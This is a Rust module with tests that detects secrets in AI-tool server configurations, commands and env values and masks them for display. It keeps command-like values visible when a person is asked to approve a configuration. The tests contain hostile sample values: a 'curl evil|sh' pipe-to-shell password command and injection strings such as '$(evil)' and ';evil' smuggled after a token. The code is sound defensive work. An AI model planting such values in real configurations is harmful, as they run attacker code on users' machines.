//! What looks like a secret, so that it is kept as one and shown to nobody.

use serde_json::Value;

use super::Host;
use crate::expand::{ExpansionContext, Template};

pub const MASK: &str = "•••";

/// Parts of names that secrets go by.
const NAMES: [&str; 15] = [
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "APIKEY",
    "ACCESSKEY",
    "PRIVATEKEY",
    "CREDENTIAL",
    "AUTHORIZATION",
    "BEARER",
    "COOKIE",
    "SIGNINGKEY",
    "CONNECTIONSTRING",
    "SESSIONID",
];
/// The same where they are a whole word of the name.
const WORDS: [&str; 7] = ["KEY", "PAT", "PWD", "PASS", "AUTH", "DSN", "JWT"];
/// Parts of words of a name whose value is executed, read or reached, so that its reader has to see it.
const ACTIVE_PARTS: [&str; 23] = [
    "COMMAND", "PROGRAM", "ASKPASS", "HELPER", "OPTION", "PATH", "FILE", "PRELOAD", "STARTUP", "CONFIG",
    "PROXY", "EDITOR", "PAGER", "BROWSER", "LIBRARY", "LOADER", "SCRIPT", "MODULE", "PLUGIN", "REQUIRE",
    "SHELL", "FLAGS", "HOOK",
];
/// The same where they are a whole word of the name.
const ACTIVE_WORDS: [&str; 18] = [
    "CMD", "EXEC", "EXE", "BIN", "URL", "URI", "HOST", "ADDR", "ADDRESS", "ENV", "DIR", "HOME", "ROOT", "RC",
    "INIT", "ARGS", "OPTS", "SOCK",
];
/// Characters that separate words, lead to files, or mean something to a shell.
const ACTIVE_CHARACTERS: [char; 16] =
    ['/', '\\', '$', '`', '|', ';', '&', '<', '>', '(', ')', '{', '}', '"', '\'', '\n'];
/// How well-known ones begin, and how long they are at least.
const SHAPES: [(&str, usize); 27] = [
    ("ghp_", 20),
    ("gho_", 20),
    ("ghu_", 20),
    ("ghs_", 20),
    ("ghr_", 20),
    ("github_pat_", 20),
    ("glpat-", 16),
    ("sk-", 16),
    ("sk_live_", 16),
    ("sk_test_", 16),
    ("rk_live_", 16),
    ("xoxb-", 16),
    ("xoxp-", 16),
    ("xoxa-", 16),
    ("xapp-", 16),
    ("AKIA", 20),
    ("ASIA", 20),
    ("AIza", 30),
    ("ya29.", 20),
    ("npm_", 20),
    ("pypi-", 20),
    ("hf_", 20),
    ("SG.", 20),
    ("figd_", 16),
    ("lin_api_", 16),
    ("ntn_", 20),
    ("-----BEGIN", 20),
];

/// Whether what has this name is a secret.
pub fn is_secret_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let joined: String = upper.chars().filter(char::is_ascii_alphanumeric).collect();
    let mut words = upper.split(|c: char| !c.is_ascii_alphanumeric());
    NAMES.iter().any(|part| joined.contains(part)) || words.any(|word| WORDS.contains(&word))
}

/// Whether a text is one by its looks.
pub fn looks_secret(text: &str) -> bool {
    is_shape(text) || (is_scheme(text) && password(text).is_some())
}

/// Whether a text is one of a well-known kind.
fn is_shape(text: &str) -> bool {
    let is_jwt = text.starts_with("eyJ") && text.len() > 40 && text.matches('.').count() == 2;
    is_jwt || SHAPES.iter().any(|(begin, least)| text.starts_with(begin) && text.len() >= *least)
}

/// A URL's path as it may be shown: without the segments that are a secret by their looks, or by the word before.
/// Services that know a person by such a segment make it of random letters and digits.
pub fn masked_path(path: &str) -> String {
    let mut is_next = false;
    let hide = |segment: &str| {
        let was_next = std::mem::replace(&mut is_next, is_secret_name(segment));
        let is_secret = !segment.contains("${")
            && (looks_secret(segment) || looks_random(segment) || was_next && segment.len() >= 8);
        if is_secret { MASK.to_owned() } else { segment.to_owned() }
    };
    path.split('/').map(hide).collect::<Vec<_>>().join("/")
}

/// The query of a URL as it may be shown: without the values that are a secret by their name or their looks. Nothing
/// executes a query, so that a person who decides about it is shown no more than others.
pub fn masked_query(query: &str) -> String {
    split_outside_gaps(query, '&').into_iter().map(masked_pairs).collect::<Vec<_>>().join("&")
}

/// Some servers take `;` for a separator, too. A secret may as well hold one: it is hidden with all that follows.
fn masked_pairs(pairs: &str) -> String {
    let mut shown = Vec::new();
    let mut rest = pairs;
    for pair in split_outside_gaps(pairs, ';') {
        let (name, value) = split_pair(pair);
        if is_secret_name(&decoded(name)) {
            shown.push(masked_pair(rest));
            break;
        }
        let masked = masked_pair(pair);
        let is_hidden = !value.is_empty() && masked.ends_with(MASK);
        shown.push(masked);
        if is_hidden {
            break;
        }
        rest = rest.get(pair.len() + 1..).unwrap_or_default();
    }
    shown.join(";")
}

fn masked_pair(pair: &str) -> String {
    let (name, value) = split_pair(pair);
    let shown = match Template::parse(value, &ExpansionContext::default()) {
        Ok(value) if !value.literal().is_some_and(looks_random) => masked_value(&decoded(name), &value),
        _ => MASK.to_owned(),
    };
    format!("{}{shown}", &pair[..pair.len() - value.len()])
}

fn split_pair(pair: &str) -> (&str, &str) {
    pair.split_once('=').unwrap_or(("", pair))
}

fn decoded(name: &str) -> std::borrow::Cow<'_, str> {
    url::form_urlencoded::parse(name.as_bytes()).next().map_or(name.into(), |(name, _)| name)
}

/// Splits a text at a character, but not within a gap: the default of `${NAME:-a&b}` is one value.
fn split_outside_gaps(text: &str, separator: char) -> Vec<&str> {
    let (mut parts, mut start, mut at) = (Vec::new(), 0, 0);
    while at < text.len() {
        let rest = &text[at..];
        let open = rest.find("${").unwrap_or(rest.len());
        let end = rest[open..].find('}').map_or(rest.len(), |close| open + close + 1);
        let braced = Template::parse(&rest[open..end], &ExpansionContext::default());
        // What only looks like a gap is text.
        let plain = if braced.is_ok_and(|braced| braced.literal().is_some()) { end } else { open };
        for (found, _) in rest[..plain].match_indices(separator) {
            parts.push(&text[start..at + found]);
            start = at + found + separator.len_utf8();
        }
        at += end;
    }
    parts.push(&text[start..]);
    parts
}

/// Whether a word is more random than names are: letters and digits in one long piece, or a UUID.
fn looks_random(word: &str) -> bool {
    let is_random = |piece: &str| {
        piece.len() >= 16
            && piece.bytes().any(|c| c.is_ascii_digit())
            && piece.bytes().any(|c| c.is_ascii_alphabetic())
    };
    let hex = word.bytes().filter(u8::is_ascii_hexdigit).count();
    let is_uuid = word.len() == 36 && hex == 32 && word.bytes().filter(|c| *c == b'-').count() == 4;
    is_uuid || word.split(|c: char| !c.is_ascii_alphanumeric()).any(is_random)
}

/// Where the password of the first address in a text stands that has one: `scheme://user:password@host`.
pub fn password(text: &str) -> Option<std::ops::Range<usize>> {
    let mut from = 0;
    while let Some(at) = text[from..].find("://") {
        from += at + 3;
        let rest = &text[from..];
        let end = rest.find(|c: char| c.is_whitespace() || "/?#\"'`<>,".contains(c)).unwrap_or(rest.len());
        let Some((user, password)) =
            rest[..end].rsplit_once('@').and_then(|(person, _)| person.split_once(':'))
        else {
            continue;
        };
        if !password.is_empty() && password != MASK && !password.contains("${") {
            let start = from + user.len() + 1;
            return Some(start..start + password.len());
        }
    }
    None
}

fn is_scheme(text: &str) -> bool {
    let scheme = text.split_once("://").map_or("", |(scheme, _)| scheme);
    !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
}

/// Words of a command as they may be shown.
pub fn masked_words(words: &[String]) -> Vec<String> {
    let mut is_next = false;
    let hide = |word: &String| {
        let (shown, was_next) = (without_passwords(word), std::mem::take(&mut is_next));
        let is_bare = !word.contains("${");
        match word.split_once('=') {
            Some((name, value)) if name.starts_with('-') || !value.is_empty() && is_secret_name(name) => {
                if is_bare && is_secret(name, value) {
                    format!("{name}={}", hidden(value))
                } else {
                    shown
                }
            }
            _ if word.starts_with('-') => {
                is_next = is_secret_name(word);
                shown
            }
            _ if is_bare && (looks_secret(word) || (was_next && !is_harmless(word))) => hidden(word),
            // `--header "Authorization: Bearer …"` and the like.
            _ => match word.split_once([':', '=']) {
                Some((name, value)) if is_bare && is_secret(name, value.trim()) => {
                    format!("{}{}", &word[..=name.len()], hidden(value))
                }
                _ => shown,
            },
        }
    };
    words.iter().map(hide).collect()
}

/// The parts of a text that are left out where it is shown like this.
pub fn masked_parts(text: &str, shown: &str) -> Vec<String> {
    let mut pieces = shown.split(MASK);
    let Some(mut rest) = pieces.next().and_then(|first| text.strip_prefix(first)) else { return Vec::new() };
    let mut parts = Vec::new();
    for piece in pieces {
        // What follows the last one reaches to the end.
        let end = if piece.is_empty() { Some(rest.len()) } else { rest.find(piece) };
        let Some(end) = end else { break };
        parts.push(rest[..end].trim().to_owned());
        rest = &rest[end + piece.len()..];
    }
    parts
}

/// Of an address, its password only.
fn hidden(value: &str) -> String {
    let shown = without_passwords(value);
    if shown == value || !is_scheme(value) { MASK.to_owned() } else { shown }
}

/// The value of a variable or header as it may be shown: gaps as they are written, what looks like a secret left out.
pub fn masked_value(name: &str, value: &Template) -> String {
    if let Some(text) = value.literal() {
        return if is_secret(name, text) { hidden(text) } else { without_passwords(text) };
    }
    value.shown(|text| {
        let word = text.trim();
        match is_authorization_scheme(word) || !is_secret(name, word) {
            true => without_passwords(text),
            false => MASK.to_owned(),
        }
    })
}

/// The value of a variable or header for a person who decides about it. A value that could be a command, a file or an
/// address is shown, whatever its name: a definition must not hide what it does by the name of a variable.
pub fn masked_for_consent(name: &str, value: &Template) -> String {
    if let Some(text) = value.literal() {
        return if is_idle_secret(name, text) { MASK.to_owned() } else { without_idle_passwords(text) };
    }
    value.shown(|text| {
        let word = text.trim();
        match !is_authorization_scheme(word) && is_idle_secret(name, word) {
            true => MASK.to_owned(),
            false => without_idle_passwords(text),
        }
    })
}

/// The value of a variable in an env file, for a person who decides about it. Such a file usually holds the person's
/// own values, so that what looks random is left out, also in a path, unless the name says that it is executed.
pub fn masked_in_env_file(name: &str, text: &str) -> String {
    let is_address = is_scheme(text) && !text.contains(char::is_whitespace);
    if is_address {
        let address = without_passwords(text);
        let (address, query) = address.split_once('?').map_or((&*address, None), |(a, q)| (a, Some(q)));
        let address = masked_path(address);
        return query.map_or(address.clone(), |query| format!("{address}?{}", masked_query(query)));
    }
    if !says_active(name) && is_idle_word(text) && looks_random(text) {
        return MASK.to_owned();
    }
    masked_for_consent(name, &Template::text(text))
}

/// Whether a value is a secret and can be nothing else.
fn is_idle_secret(name: &str, value: &str) -> bool {
    let word = match value.split_once(' ') {
        Some((scheme, word)) if is_authorization_scheme(scheme) => word,
        _ => value,
    };
    let is_private_key = word.starts_with("-----BEGIN")
        && word.chars().all(|c| c.is_ascii_alphanumeric() || c == '\n' || " +/=-".contains(c));
    if says_active(name) || !(is_idle_word(word) || is_base64(word) || is_private_key) {
        return false;
    }
    is_private_key
        || is_shape(word)
        || looks_random(word)
        || (is_secret_name(name) && (word != value || !is_harmless(word)))
}

fn is_authorization_scheme(word: &str) -> bool {
    ["", "Bearer", "Basic", "Token"].iter().any(|known| known.eq_ignore_ascii_case(word))
}

fn is_idle_word(word: &str) -> bool {
    !word.contains(|c: char| c.is_whitespace() || c.is_control() || ACTIVE_CHARACTERS.contains(&c))
}

/// Whether a word is long and random as base64 is, which may hold a `/`, and no path.
fn is_base64(word: &str) -> bool {
    word.len() >= 20
        && !word.starts_with('/')
        && word.bytes().all(|c| c.is_ascii_alphanumeric() || b"+/=".contains(&c))
        && word.bytes().any(|c| c.is_ascii_digit())
        && word.bytes().any(|c| c.is_ascii_uppercase())
        && word.bytes().any(|c| c.is_ascii_lowercase())
}

/// Whether what has this name is executed, read or reached. What a name ends with counts most: `FILE_TOKEN` is a token,
/// `TOKEN_FILE` is a file.
pub fn says_active(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let joined: String = upper.chars().filter(char::is_ascii_alphanumeric).collect();
    if NAMES.iter().any(|part| joined.ends_with(part)) {
        return false;
    }
    let mut words = upper.split(|c: char| !c.is_ascii_alphanumeric());
    words.any(|word| ACTIVE_WORDS.contains(&word) || ACTIVE_PARTS.iter().any(|part| word.contains(part)))
}

/// Without the passwords of addresses, unless such a password could be a command.
fn without_idle_passwords(text: &str) -> String {
    let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
    while let Some(at) = password(rest) {
        let end = at.end;
        shown.push_str(&rest[..at.start]);
        shown.push_str(if is_idle_word(&rest[at.clone()]) { MASK } else { &rest[at] });
        rest = &rest[end..];
    }
    shown + rest
}

fn without_passwords(text: &str) -> String {
    let mut text = text.to_owned();
    while let Some(at) = password(&text) {
        text.replace_range(at, MASK);
    }
    text
}

/// Whether the value of a variable or header is one that must not stand in a file.
pub fn is_secret(name: &str, value: &str) -> bool {
    looks_secret(value) || (is_secret_name(name) && !is_harmless(value))
}

/// A path, a switch or a number, whatever its name.
fn is_harmless(value: &str) -> bool {
    let is_path = value.starts_with(['/', '~', '.']) && !value.contains(char::is_whitespace);
    let is_switch =
        matches!(value.to_ascii_lowercase().as_str(), "" | "true" | "false" | "yes" | "no" | "none" | "null");
    is_path || is_switch || value.parse::<f64>().is_ok_and(|_| value.len() < 6)
}

/// A host's file as it may be shown: its lines are what they were, its secrets are not.
pub fn masked(host: &Host, text: &str) -> String {
    let mut hidden: Vec<String> = Vec::new();
    if let Ok(contents) = host.format.read(text) {
        for entry in &contents.entries {
            for part in ["env", "environment", "headers", "http_headers"] {
                collect(&entry.value[part], &mut hidden);
                collect(&entry.value["transport"][part], &mut hidden);
                collect(&entry.value["requestOptions"][part], &mut hidden);
            }
        }
    }
    hidden.sort_by_key(|value| std::cmp::Reverse(value.len()));
    let mut text = by_looks(&without_passwords(text));
    for value in hidden {
        // As it is, and as JSON writes it.
        let escaped = Value::from(value.as_str()).to_string();
        text = text.replace(escaped.trim_matches('"'), MASK).replace(&value, MASK);
    }
    text
}

/// Every value that is not simply a reference to one. Short ones would take the rest of the text with them.
fn collect(values: &Value, hidden: &mut Vec<String>) {
    let texts = values.as_object().into_iter().flat_map(|values| values.values()).filter_map(Value::as_str);
    hidden.extend(
        texts
            .filter(|text| text.len() > 3 && !text.contains("${") && !text.contains("{env:"))
            .map(ToOwned::to_owned),
    );
}

/// Masks what stands behind a secret's name, and what looks like one.
fn by_looks(text: &str) -> String {
    let (mut shown, mut is_next) = (String::with_capacity(text.len()), false);
    let mut rest = text;
    while let Some(first) = rest.chars().next() {
        let (token, is_quoted) = match first {
            '"' | '\'' => (quoted(rest, first), true),
            c if is_word(c) => (&rest[..rest.find(|c| !is_word(c)).unwrap_or(rest.len())], false),
            c => (&rest[..c.len_utf8()], false),
        };
        rest = &rest[token.len()..];
        let bare = token.trim_matches(['"', '\'']);
        if bare.is_empty() || !(is_quoted || is_word(first)) {
            // What stands between a name and its value leaves the value one.
            is_next &= matches!(first, ':' | '=' | ',' | '"' | '\'') || first.is_whitespace();
            shown.push_str(token);
            continue;
        }
        let last = bare.rsplit([' ', '=']).next().unwrap_or(bare);
        if (is_next && !is_harmless(bare)) || looks_secret(bare) || looks_secret(last) {
            shown.push_str(&token.replace(bare, MASK));
            // A scheme is followed by what it is about.
            is_next = is_next && matches!(bare.to_ascii_lowercase().as_str(), "bearer" | "basic" | "token");
        } else {
            shown.push_str(token);
            is_next = is_secret_name(bare) && bare.len() < 64;
        }
    }
    shown
}

fn quoted(text: &str, quote: char) -> &str {
    let mut is_escaped = false;
    for (at, c) in text.char_indices().skip(1) {
        match c {
            '\n' => return &text[..1],
            _ if is_escaped => is_escaped = false,
            '\\' => is_escaped = true,
            c if c == quote => return &text[..=at],
            _ => {}
        }
    }
    &text[..1]
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || "_-./+@$%&*~".contains(c)
}

#[cfg(test)]
mod tests {
    use super::super::table::by_id;
    use super::*;

    #[test]
    fn secrets_are_known_by_name_and_by_looks() {
        for name in [
            "GITHUB_TOKEN",
            "apiKey",
            "X-API-Key",
            "OPENAI_API_KEY",
            "Authorization",
            "db_password",
            "GH_PAT",
        ] {
            assert!(is_secret(name, "abcdefgh"), "{name}");
        }
        for name in ["PATH", "MONKEY", "KEYBOARD", "LOG_LEVEL", "PATTERN", "AUTHOR"] {
            assert!(!is_secret(name, "abcdefgh"), "{name}");
        }
        assert!(is_secret("X", "ghp_0123456789abcdefghij"));
        assert!(is_secret("DATABASE_URL", "postgres://u:hunter2@h/d"));
        for value in ["http://h:8080/@x", "https://u@h/", "postgres://u:${PW}@h/d", "git@h:x/y"] {
            assert!(!is_secret("URL", value), "{value}");
        }
        for value in ["/run/secrets/token", "~/.key", "true", "", "8080"] {
            assert!(!is_secret("API_KEY", value), "{value}");
        }
    }

    #[test]
    fn a_path_is_shown_without_its_secrets() {
        for (path, shown) in [
            ("/api/mcp/s/Y2FuYXJ5MDEyMzQ1Njc4OQ/mcp", "/api/mcp/s/•••/mcp"),
            ("/server/123e4567-e89b-12d3-a456-426614174000", "/server/•••"),
            ("/token/hunter2hunter/x", "/token/•••/x"),
            ("/s/ghp_0123456789abcdefghij", "/s/•••"),
            ("/v1/mcp", "/v1/mcp"),
            ("/token/mcp", "/token/mcp"),
            (
                "/my-servers/sequential-thinking-2025.12.18/sse",
                "/my-servers/sequential-thinking-2025.12.18/sse",
            ),
            ("/s/${HOOK_0123456789ABCDEF}/mcp", "/s/${HOOK_0123456789ABCDEF}/mcp"),
            ("", ""),
        ] {
            assert_eq!(masked_path(path), shown);
        }
    }

    #[test]
    fn a_file_is_shown_without_its_secrets() {
        let text = "{\n  \"apiKey\":\n    \"hunter2\",\n  \"mcpServers\": {\n    \"a\": { \"env\": { \"PLAIN\": \"hunter3\" }, \"args\": [\"--token\", \"hunter4\", \"sk-0123456789abcdefgh\"] }\n  },\n  \"headers\": { \"Authorization\": \"Bearer hunter5\" }, \"theme\": \"dark\"\n}\n";
        let shown = masked(by_id("cursor").unwrap(), text);
        assert!(!shown.contains("hunter") && !shown.contains("0123456789"), "{shown}");
        assert!(
            shown.contains("\"theme\": \"dark\"") && shown.lines().count() == text.lines().count(),
            "{shown}"
        );
        let shown =
            masked(by_id("continue").unwrap(), "models:\n  - apiKey: hunter2 # mine\n    model: gpt\n");
        assert_eq!(shown, "models:\n  - apiKey: ••• # mine\n    model: gpt\n");
        let shown = masked(by_id("continue").unwrap(), "a: postgres://u:hunter2@h/d # http://x:hunter3@h\n");
        assert_eq!(shown, "a: postgres://u:•••@h/d # http://x:•••@h\n");
    }

    #[test]
    fn a_command_is_shown_without_its_secrets() {
        let words = |line: &str| -> Vec<String> { line.split('|').map(ToOwned::to_owned).collect() };
        for (line, shown) in [
            ("npx|--api-key|hunter2|--verbose|x", "npx|--api-key|•••|--verbose|x"),
            ("x|--token=hunter2|--key|${KEY}|--auth=${A}", "x|--token=•••|--key|${KEY}|--auth=${A}"),
            ("x|postgresql://u:hunter2@h/d|sk-0123456789abcdefgh", "x|postgresql://u:•••@h/d|•••"),
            (
                "x|-e|DATABASE_URL=postgres://u:hunter2@h/d|-e|TOKEN=hunter2",
                "x|-e|DATABASE_URL=postgres://u:•••@h/d|-e|TOKEN=•••",
            ),
            (
                "x|--header|Authorization: Bearer hunter2|--port|8080",
                "x|--header|Authorization:•••|--port|8080",
            ),
        ] {
            assert_eq!(masked_words(&words(line)), words(shown));
        }
    }

    #[test]
    fn the_parts_that_are_left_out_are_known() {
        for (text, shown, parts) in [
            ("--token=hunter2", "--token=•••", &["hunter2"][..]),
            ("Authorization: Bearer x", "Authorization:•••", &["Bearer x"]),
            ("a://u:one@h b://u:two@h", "a://u:•••@h b://u:•••@h", &["one", "two"]),
            ("plain", "plain", &[]),
        ] {
            assert_eq!(masked_parts(text, shown), parts);
        }
    }

    #[test]
    fn values_are_shown_unless_they_look_like_secrets() {
        let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
        for (name, value, shown) in [
            ("MEMORY_FILE_PATH", "/etc/passwd", "/etc/passwd"),
            ("NODE_OPTIONS", "--require ./hook.js", "--require ./hook.js"),
            ("API_TOKEN", "abcdefgh", MASK),
            ("ANY", "ghp_abcdefghijklmnopqrstuvwx", MASK),
            ("NOTES_TOKEN", "${GITHUB_TOKEN}", "${GITHUB_TOKEN}"),
            ("authorization", "Bearer ${T}", "Bearer ${T}"),
            ("authorization", "Bearer abcdefgh${T}", "•••${T}"),
            ("DATABASE", "postgres://me:pw@${HOST}/x", "•••${HOST}/x"),
            ("DATABASE", "postgres://me:pw@h/x", "postgres://me:•••@h/x"),
        ] {
            assert_eq!(masked_value(name, &template(value)), shown, "{name}={value}");
        }
    }

    #[test]
    fn a_person_who_decides_is_shown_what_could_be_a_command() {
        let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
        for (name, value) in [
            ("RESTIC_PASSWORD_COMMAND", "curl evil|sh"),
            ("RESTIC_PASSWORD_COMMAND", "evil"),
            ("GIT_ASKPASS", "evil0123456789abcdef"),
            ("SSH_ASKPASS", "./evil"),
            ("VAULT_TOKEN_HELPER", "evil-helper"),
            ("GIT_CONFIG_KEY_0", "core.sshCommand"),
            ("SSL_KEY_FILE", "ghp_0123456789abcdefghij"),
            ("PRIVATE_KEY_PATH", "keys"),
            ("API_TOKEN", "curl evil|sh"),
            ("API_TOKEN", "$(evil)"),
            ("API_TOKEN", "`evil`"),
            ("API_TOKEN", "a;b"),
            ("API_TOKEN", "dir/evil"),
            ("API_TOKEN", "ghp_0123456789abcdefghij;evil"),
            ("ANY", "sk-0123456789abcdef evil"),
            ("ANY", "-----BEGIN 0123456789;evil"),
            ("ANY", "x://u:;evil|sh@h"),
            ("ANY", "eyJ0123456789012345678901234567890123456789.a.b|evil"),
            ("API_KEY", "/run/secrets/key"),
            ("API_KEY", "true"),
        ] {
            assert_eq!(masked_for_consent(name, &Template::text(value)), value, "{name}={value}");
        }
        for (name, value, shown) in [
            ("API_TOKEN", "abcdefgh", MASK),
            ("FILE_TOKEN", "abcdefgh", MASK),
            ("DB_HOST_PASSWORD", "hunter2!", MASK),
            ("ANY", "ghp_abcdefghijklmnopqrstuvwx", MASK),
            ("ANY", "123e4567-e89b-12d3-a456-426614174000", MASK),
            ("ANY", "Y2FuYXJ5MDEyMzQ1Njc4OQ", MASK),
            ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", MASK),
            ("SIGNING", "-----BEGIN KEY-----\nMIIB/VQ+A=\n-----END KEY-----\n", MASK),
            ("authorization", "Bearer t0p", MASK),
            ("authorization", "Bearer ${T}", "Bearer ${T}"),
            ("authorization", "Bearer abcdefgh${T}", "•••${T}"),
            ("DATABASE_URL", "postgres://me:pw@h/x", "postgres://me:•••@h/x"),
            ("X", "run a://u:one@h b://u:two@h", "run a://u:•••@h b://u:•••@h"),
            ("TOKEN", "${KEY:-hunter2}", "${KEY:-•••}"),
        ] {
            assert_eq!(masked_for_consent(name, &template(value)), shown, "{name}={value}");
        }
    }
}
